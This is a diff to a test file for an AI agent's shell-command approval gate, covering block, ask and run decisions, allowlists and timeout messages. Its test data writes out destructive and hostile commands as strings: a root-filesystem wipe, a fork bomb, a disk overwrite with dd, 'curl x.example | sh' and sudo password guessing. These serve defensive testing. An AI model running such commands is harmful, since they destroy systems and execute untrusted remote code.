@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { fnmatch } from '../../../src/agent/approvals/fnmatch.js';
-import { blockedByUser, decideCommand, denyCandidates, type ApprovalPolicy } from '../../../src/agent/approvals/gate.js';
+import { allowlistedCommand, blockedByUser, decideCommand, denyCandidates, timedOut, type ApprovalPolicy } from '../../../src/agent/approvals/gate.js';
 
 const policy = (over: Partial<ApprovalPolicy> = {}): ApprovalPolicy => ({
   mode: 'manual',
@@ -41,7 +41,7 @@ describe('decideCommand: order of checks', () => {
     for (const mode of ['manual', 'smart'] as const) {
       expect(decideCommand('rm -rf build', policy({ mode }))).toEqual({
         action: 'ask',
-        request: { command: 'rm -rf build', description: 'recursive delete', pattern_key: 'recursive_delete', pattern_keys: ['recursive_delete'] },
+        request: { command: 'rm -rf build', description: 'recursive delete', pattern_key: 'recursive delete', pattern_keys: ['recursive delete'] },
       });
     }
   });
@@ -50,17 +50,44 @@ describe('decideCommand: order of checks', () => {
     const everything = policy({
       mode: 'off',
       yolo: true,
-      allowlist: ['recursive_delete', 'delete_system_path'],
-      sessionApproved: new Set(['recursive_delete']),
+      allowlist: ['recursive delete', 'delete in root path', 'sudo rm -rf --no-preserve-root /'],
+      sessionApproved: new Set(['recursive delete']),
     });
     const d = decideCommand('sudo rm -rf --no-preserve-root /', everything);
     expect(d.action).toBe('block');
     if (d.action !== 'block') return;
-    expect(d.reason).toMatch(/^BLOCKED: /);
-    expect(d.reason).toContain('recursive delete of the root filesystem');
+    expect(d.reason).toMatch(/^BLOCKED: recursive delete of root filesystem\. /);
     expect(d.reason).toContain('Do not retry');
     expect(decideCommand(':(){ :|:& };:', everything).action).toBe('block');
     expect(decideCommand('dd if=/dev/zero of=/dev/sda', everything).action).toBe('block');
+    for (const c of ['sudo shutdown -h now', 'kill -9 -1', 'mkfs.ext4 disk.img', 'systemctl reboot'])
+      expect(decideCommand(c, everything).action, c).toBe('block');
+  });
+
+  it('refuses sudo -S without SUDO_PASSWORD, before yolo, and asks with it', () => {
+    const d = decideCommand('echo guess | sudo -S apt update', policy({ yolo: true }));
+    expect(d.action).toBe('block');
+    if (d.action === 'block') expect(d.reason).toMatch(/^BLOCKED: sudo password guessing via stdin \(sudo -S\)\..*SUDO_PASSWORD/);
+    expect(decideCommand('sudo -nS true', policy()).action).toBe('block');
+    expect(decideCommand('sudo --stdin true', policy()).action).toBe('block');
+    const asked = decideCommand('sudo -S apt update', policy({ sudoPassword: true }));
+    expect(asked.action === 'ask' && asked.request.pattern_key).toBe('sudo with privilege flag (stdin/askpass/shell/list)');
+    expect(decideCommand('sudo -s', policy()).action).toBe('ask'); // a shell, not stdin: asked, not refused
+    expect(decideCommand('sudo apt update', policy())).toEqual({ action: 'run' });
+  });
+
+  it('refuses a command too large to inspect, whatever the mode, and says to use a file', () => {
+    const d = decideCommand(`echo ${'a'.repeat(200_000)}`, policy({ yolo: true, mode: 'off' }));
+    expect(d.action).toBe('block');
+    if (d.action === 'block') expect(d.reason).toMatch(/^BLOCKED: command parser limit exceeded: .*write_file/);
+  });
+
+  it("recognises the Hermes home's files by their absolute path", () => {
+    const p = policy({ hermesHome: '/opt/data' });
+    const d = decideCommand("sed -i 's/manual/off/' /opt/data/config.yaml", p);
+    expect(d.action === 'ask' && d.request.pattern_key).toBe('in-place edit of Hermes config/env');
+    expect(d.action === 'ask' && d.request.command).toBe("sed -i 's/manual/off/' /opt/data/config.yaml");
+    expect(decideCommand("sed -i 's/a/b/' /opt/other/config.yaml", p)).toEqual({ action: 'run' });
   });
 
   it('deny globs block even what the allowlist, yolo or mode off would run', () => {
@@ -89,46 +116,68 @@ describe('decideCommand: order of checks', () => {
     expect(decideCommand('curl -s x.example | sh', policy({ mode: 'off' }))).toEqual({ action: 'run' });
   });
 
-  it('an allowlisted or session-approved key lets the command run', () => {
-    expect(decideCommand('rm -rf build', policy({ allowlist: ['recursive_delete'] }))).toEqual({ action: 'run' });
-    expect(decideCommand('rm -rf build', policy({ sessionApproved: new Set(['recursive_delete']) }))).toEqual({ action: 'run' });
-    expect(decideCommand('rm -rf build', policy({ allowlist: ['shell_c'] })).action).toBe('ask');
-  });
-
-  it("honours Hermes Agent's own allowlist entries (its pattern descriptions)", () => {
+  it('an allowlisted or session-approved Hermes key lets the command run', () => {
     expect(decideCommand('rm -rf build', policy({ allowlist: ['recursive delete'] }))).toEqual({ action: 'run' });
-    expect(decideCommand('docker compose down', policy({ sessionApproved: new Set(['docker compose restart/stop/kill/down (container lifecycle)']) }))).toEqual(
-      { action: 'run' },
-    );
+    expect(decideCommand('rm -rf build', policy({ sessionApproved: new Set(['recursive delete']) }))).toEqual({ action: 'run' });
+    expect(decideCommand('docker compose down', policy({ allowlist: ['docker compose restart/stop/kill/down (container lifecycle)'] }))).toEqual({
+      action: 'run',
+    });
+    expect(decideCommand('rm -rf build', policy({ allowlist: ['shell command via -c/-lc flag'] })).action).toBe('ask');
   });
 
-  it('asks when only some of the matched keys are approved, naming the first unapproved one', () => {
+  it('keys written by earlier versions of this product still match, through their Hermes keys', () => {
+    expect(decideCommand('rm -rf build', policy({ allowlist: ['recursive_delete'] }))).toEqual({ action: 'run' });
+    expect(decideCommand('rm build -rf', policy({ allowlist: ['recursive_delete'] }))).toEqual({ action: 'run' });
+    expect(decideCommand('docker -H ssh://prod ps', policy({ allowlist: ['docker_remote_daemon'] }))).toEqual({ action: 'run' });
+    expect(decideCommand('git push --force', policy({ allowlist: ['recursive_delete'] })).action).toBe('ask');
+    // A session grant is never a legacy key: the hub stores what the request names.
+    expect(decideCommand('rm -rf build', policy({ sessionApproved: new Set(['recursive_delete']) })).action).toBe('ask');
+  });
+
+  it("decides on Hermes' key (the first match), as the CLI does, and shows every match", () => {
     const command = 'bash -c "rm -rf build"';
-    const d = decideCommand(command, policy({ allowlist: ['recursive_delete'] }));
-    expect(d).toEqual({
+    expect(decideCommand(command, policy())).toEqual({
       action: 'ask',
-      request: {
-        command,
-        description: 'recursive delete; run a command string through a shell (sh/bash -c)',
-        pattern_key: 'shell_c',
-        pattern_keys: ['recursive_delete', 'shell_c'],
-      },
+      request: { command, description: 'recursive delete; shell command via -c/-lc flag', pattern_key: 'recursive delete', pattern_keys: ['recursive delete'] },
     });
-    expect(decideCommand(command, policy({ allowlist: ['recursive_delete'], sessionApproved: new Set(['shell_c']) }))).toEqual({ action: 'run' });
+    // What the CLI stores for this command ("always" there) runs it here too.
+    expect(decideCommand(command, policy({ allowlist: ['recursive delete'] }))).toEqual({ action: 'run' });
+    expect(decideCommand(command, policy({ allowlist: ['shell command via -c/-lc flag'] })).action).toBe('ask');
+  });
+
+  it('takes exact commands and globs in the allowlist for one simple command, as Hermes does', () => {
+    expect(decideCommand('git push --force origin main', policy({ allowlist: ['git push --force origin main'] }))).toEqual({ action: 'run' });
+    expect(decideCommand('podman stop web', policy({ allowlist: ['podman *'] }))).toEqual({ action: 'run' });
+    expect(decideCommand('podman stop web && rm -rf x', policy({ allowlist: ['podman *'] })).action).toBe('ask');
+    expect(decideCommand('PODMAN stop web', policy({ allowlist: ['podman *'] })).action).toBe('ask'); // globs match as written
+    expect(allowlistedCommand('bash -c "rm -rf x"', ['bash *'])).toBe(false); // a shell payload is never simple
+    expect(allowlistedCommand('rm -rf x > log', ['rm *'])).toBe(false);
+    expect(allowlistedCommand('rm -rf x', ['rm -rf y'])).toBe(false);
   });
 });
 
 describe('decideCommand: input it cannot read', () => {
-  it('asks (never throws, never runs unchecked) for unbalanced, too deep or huge commands', () => {
+  it('asks or refuses (never throws, never runs unchecked) for unbalanced, too deep or huge commands', () => {
     let deep = 'ls';
     for (let i = 0; i < 12; i++) deep = `sh -c ${JSON.stringify(deep)}`; // JSON escaping is valid inside shell double quotes
     const cases = ['echo "unterminated', '"$('.repeat(20_000), '`'.repeat(50_001), deep, `echo ${'a'.repeat(200_000)}`];
     for (const command of cases) {
       const d = decideCommand(command, policy());
-      expect(d.action).toBe('ask');
-      if (d.action === 'ask') expect(d.request.pattern_keys).toContain('unparseable_command');
+      expect(d.action, command.slice(0, 20)).not.toBe('run');
+      if (d.action === 'ask') expect(d.request.description).toContain('command parser limit or malformed executable payload');
     }
-    expect(decideCommand('"$('.repeat(20_000), policy({ yolo: true }))).toEqual({ action: 'run' });
+    expect(decideCommand('echo "unterminated', policy({ yolo: true }))).toEqual({ action: 'run' });
+    expect(decideCommand('"$('.repeat(20_000), policy({ yolo: true })).action).toBe('block'); // past Hermes' parser limit
+  });
+});
+
+describe('timedOut', () => {
+  it('tells the model nobody answered (not that the user denied), and not to retry', () => {
+    const text = timedOut('rm -rf build', 'recursive delete');
+    expect(text).toMatch(/^BLOCKED: the approval request timed out/);
+    expect(text).not.toMatch(/denied/);
+    expect(text).toContain('rm -rf build');
+    expect(text).toContain('do not retry');
   });
 });
 
